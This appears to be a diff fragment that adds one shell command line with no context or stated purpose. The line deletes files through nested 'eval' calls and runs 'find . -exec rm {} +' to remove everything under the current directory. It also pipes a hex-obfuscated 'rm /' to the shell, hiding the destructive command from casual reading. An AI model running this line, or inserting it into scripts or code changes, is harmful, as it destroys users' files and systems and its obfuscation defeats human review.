@@ -1,0 +1,1 @@
+for i in {a,b}; do [[ -f $i ]] && sh -c 'eval "rm $i"' <<< $'\x41'; done; find . -exec rm {} + ; printf '\x72m %s' / | sh
